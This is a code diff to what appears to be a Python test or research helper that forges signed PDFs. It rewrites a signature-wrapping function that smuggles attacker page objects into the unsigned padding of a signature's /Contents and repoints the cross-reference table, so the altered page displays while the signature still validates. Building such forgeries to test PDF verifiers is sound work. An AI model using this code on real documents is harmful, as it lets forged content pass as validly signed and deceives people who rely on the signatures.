@@ -231,22 +231,40 @@ def forged_byte_range(pdf: bytes) -> bytes:
 
 
 def wrapped_signature(pdf: bytes, text: str) -> bytes:
-    """Signature wrapping: the signed byte ranges stay as they are; the attacker's page content
-    is written into the unsigned gap of the last signature's /Contents (its zero padding), and
-    a new cross-reference section appended after the signed bytes points at it."""
+    """Signature wrapping: the signed byte ranges stay byte for byte where they were; the
+    attacker's objects (page 1 drawn over) are written into the unsigned gap of the last
+    signature, after its /Contents value, inside a literal string `/X (…)` that the signature
+    dictionary now carries (so the dictionary still parses, and the signature still checks);
+    a new cross-reference section appended at the end points into that string, where a reader
+    going by offsets finds the objects. Two readings of one byte range: that is the class."""
     changed = replace_page_content(pdf, text)
-    appended = changed[len(pdf):]
+    update = changed[len(pdf):]
+    objects_end = update.index(b"xref")
+    objects, xref_section = update[:objects_end], update[objects_end:]
+    if re.search(rb"\\[()]", objects) or objects.count(b"(") != objects.count(b")"):
+        raise ValueError("the attacker's objects would not sit in a literal string")
     a, b, c, _d = _byte_ranges(pdf)[-1]
-    gap_end = c - 1  # the ">" closing the hex string
-    hex_text = pdf[a + b + 1:gap_end]
-    padding = len(hex_text) - len(hex_text.rstrip(b"0"))
-    objects, _, xref_part = appended.partition(b"xref")
-    if padding < len(objects) + 8:
-        return changed  # no room: the plain appended update is the attack then
-    room_start = gap_end - padding + 2
-    wrapped = bytearray(pdf)
-    wrapped[room_start:room_start + len(objects)] = objects
-    return bytes(wrapped) + b"\nxref" + xref_part
+    gap_start = a + b  # the "<" of the last signature's /Contents; its ">" is at c - 1
+    signature_hex = pdf[gap_start + 1:c - 1].rstrip(b"0")
+    signature_hex += b"0" * (len(signature_hex) % 2)
+    head = b"<" + signature_hex + b"> /X ("
+    gap = head + objects + b")"
+    if len(gap) > c - gap_start:
+        raise ValueError("no room for the attacker's objects in the signature's padding")
+    gap += b" " * (c - gap_start - len(gap))
+    shift = gap_start + len(head) - len(pdf)  # where each object moved from, to
+
+    def moved(entry: re.Match[bytes]) -> bytes:
+        offset = int(entry.group(1))
+        if offset < len(pdf):  # an entry for an object already in the signed file
+            return entry.group(0)
+        return b"%010d" % (offset + shift) + entry.group(2)
+
+    xref_section = re.sub(rb"(\d{10})( \d{5} n)", moved, xref_section)
+    wrapped = pdf[:gap_start] + gap + pdf[c:]
+    xref_at = len(wrapped)
+    xref_section = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % xref_at, xref_section)
+    return wrapped + xref_section
 
 
 def sneaky_signature(pdf: bytes, signer: Any) -> bytes:
